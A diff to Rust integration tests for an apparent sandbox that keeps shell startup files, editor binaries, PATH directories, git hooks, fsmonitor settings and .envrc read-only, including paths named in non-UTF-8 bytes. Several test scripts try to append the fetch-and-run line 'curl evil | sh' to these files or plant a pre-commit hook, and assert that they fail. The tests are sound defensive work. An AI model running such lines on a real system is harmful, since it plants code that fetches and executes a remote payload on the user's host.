@@ -121,21 +121,41 @@ fn a_home_entry_named_in_bytes_that_are_not_utf8_is_split_like_any_other() {
     // The workspace is home: --allow-home-write splits it.
     let home = dir.join("ws");
     let data = home.join(OsStr::from_bytes(b"caf\xe9"));
-    std::fs::create_dir_all(&data).unwrap();
+    // Entries holding code that the environment names by bytes that are not UTF-8: an
+    // editor, a PATH directory.
+    let editor = home.join(OsStr::from_bytes(b"\xe9diteur/ed"));
+    let bin = home.join(OsStr::from_bytes(b"outils-\xff/bin"));
+    for made in [&data, &bin, &editor.parent().unwrap().to_owned()] {
+        std::fs::create_dir_all(made).unwrap();
+    }
+    std::fs::write(&editor, "#!/bin/sh\n").unwrap();
     std::fs::write(home.join(".bashrc"), "# mine\n").unwrap();
     let run = Run::new(&dir)
         .arg("--quiet")
         .arg("--allow-home-write")
         .env("HOME", home.display().to_string());
-    // The data entry takes a write like any other; the control: .bashrc stays read-only.
+    let mut path = bin.clone().into_os_string();
+    path.push(":/usr/bin:/bin");
+    // The data entry takes a write like any other; the code entries and .bashrc do not.
     let script = format!(
-        "echo x > {}/notes && echo ok; echo 'curl evil | sh' >> {}/.bashrc 2>/dev/null || echo kept",
-        shell_quote(&data),
-        shell_quote(&home)
+        "echo x > {data}/notes && echo ok; \
+         echo 'curl evil | sh' >> {home}/.bashrc 2>/dev/null || echo kept; \
+         echo 'curl evil | sh' >> \"$EDITOR\" 2>/dev/null || echo kept; \
+         echo 'curl evil | sh' > {bin}/ls 2>/dev/null || echo kept",
+        data = shell_quote(&data),
+        home = shell_quote(&home),
+        bin = shell_quote(&bin),
     );
-    let out = run.sh(&script);
-    assert_eq!(stdout(&out), "ok\nkept\n", "{}", stderr(&out));
+    let out = run
+        .command(&script)
+        .env("EDITOR", &editor)
+        .env("PATH", &path)
+        .output()
+        .unwrap();
+    assert_eq!(stdout(&out), "ok\nkept\nkept\nkept\n", "{}", stderr(&out));
     assert_eq!(std::fs::read_to_string(data.join("notes")).unwrap(), "x\n");
+    assert_eq!(std::fs::read_to_string(&editor).unwrap(), "#!/bin/sh\n");
+    assert!(!bin.join("ls").exists());
     assert_eq!(
         std::fs::read_to_string(home.join(".bashrc")).unwrap(),
         "# mine\n"
@@ -144,13 +164,54 @@ fn a_home_entry_named_in_bytes_that_are_not_utf8_is_split_like_any_other() {
         .into_iter()
         .find(|e| e["type"] == "session_start")
         .unwrap();
-    assert!(
-        start["write_roots"]
-            .as_array()
-            .unwrap()
-            .contains(&Value::from(as_logged(&data))),
-        "{start}"
+    let roots = start["write_roots"].as_array().unwrap();
+    assert!(roots.contains(&Value::from(as_logged(&data))), "{start}");
+    for code in [editor.parent().unwrap(), bin.parent().unwrap()] {
+        assert!(!roots.contains(&Value::from(as_logged(code))), "{start}");
+    }
+}
+
+#[test]
+fn git_settings_naming_bytes_that_are_not_utf8_pin_those_very_paths() {
+    let dir = TestDir::new("byte-names-git");
+    let run = Run::new(&dir).arg("--quiet");
+    git(&run.workspace, &["init", "-q"]);
+    let latin = run.workspace.join(OsStr::from_bytes(b"caf\xe9"));
+    let hooks = latin.join("hooks");
+    std::fs::create_dir_all(&hooks).unwrap();
+    let monitor = latin.join(OsStr::from_bytes(b"m\xff"));
+    std::fs::write(&monitor, "#!/bin/sh\n").unwrap();
+    // A global config outside the workspace naming the monitor, in Latin-1 bytes.
+    let global = dir.join("gitconfig");
+    let mut text = b"[core]\n\tfsmonitor = ".to_vec();
+    text.extend_from_slice(monitor.as_os_str().as_bytes());
+    text.push(b'\n');
+    std::fs::write(&global, text).unwrap();
+    // `git -c core.hooksPath=...` as git hands it on, and the global config: each was read
+    // as unset, or as a path with U+FFFD in it, and what it names took a hook or a
+    // monitor the host's next `git status` would run.
+    let script = format!(
+        "{{ echo '#!/bin/sh' > {hooks}/pre-commit 2>/dev/null && echo planted; }} || echo kept; \
+         {{ echo 'curl evil | sh' >> {monitor} 2>/dev/null && echo planted; }} || echo kept; \
+         echo x > {latin}/notes && echo ok",
+        hooks = shell_quote(&hooks),
+        monitor = shell_quote(&monitor),
+        latin = shell_quote(&latin),
     );
+    let out = run
+        .command(&script)
+        .env("GIT_CONFIG_COUNT", "1")
+        .env("GIT_CONFIG_KEY_0", "core.hooksPath")
+        .env("GIT_CONFIG_VALUE_0", &hooks)
+        .env("GIT_CONFIG_GLOBAL", &global)
+        .output()
+        .unwrap();
+    // The control: the directory holding both takes a write.
+    assert_eq!(stdout(&out), "kept\nkept\nok\n", "{}", stderr(&out));
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert!(!hooks.join("pre-commit").exists());
+    assert_eq!(std::fs::read_to_string(&monitor).unwrap(), "#!/bin/sh\n");
+    assert_eq!(std::fs::read_to_string(latin.join("notes")).unwrap(), "x\n");
 }
 
 /// `path` for bash, byte for byte: `$'...'` with every byte escaped.
@@ -162,4 +223,41 @@ fn shell_quote(path: &std::path::Path) -> String {
         .map(|b| format!("\\x{b:02x}"))
         .collect();
     format!("$'{escaped}'")
+}
+
+#[test]
+fn a_pin_lost_on_the_host_in_a_workspace_named_in_bytes_stops_the_run() {
+    let dir = TestDir::new("byte-names-pinlost");
+    let run = latin1_workspace(&dir);
+    std::fs::write(run.workspace.join(".envrc"), "export A=1\n").unwrap();
+    // CMD waits, then tries to rewrite .envrc: possible only if the pin went away.
+    let child = run
+        .command("touch started; sleep 2; echo 'curl evil | sh' > .envrc && echo PLANTED; sleep 5; echo FINISHED")
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    wait_for_path(&run.workspace.join("started"), "CMD never started");
+    // An editor's save on the host: pid 1 says which pin went, by its bytes.
+    std::fs::write(run.workspace.join(".envrc.new"), "export A=2\n").unwrap();
+    std::fs::rename(
+        run.workspace.join(".envrc.new"),
+        run.workspace.join(".envrc"),
+    )
+    .unwrap();
+    let out = child.wait_with_output().unwrap();
+    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains(&format!(
+            "{} was removed or replaced on the host",
+            as_logged(&run.workspace.join(".envrc"))
+        )),
+        "{}",
+        stderr(&out)
+    );
+    assert!(!stdout(&out).contains("PLANTED"));
+    assert!(!stdout(&out).contains("FINISHED"));
+    // Control: the same run, untouched, finishes.
+    let out = run.sh("echo FINISHED");
+    assert_eq!(stdout(&out), "FINISHED\n", "{}", stderr(&out));
 }
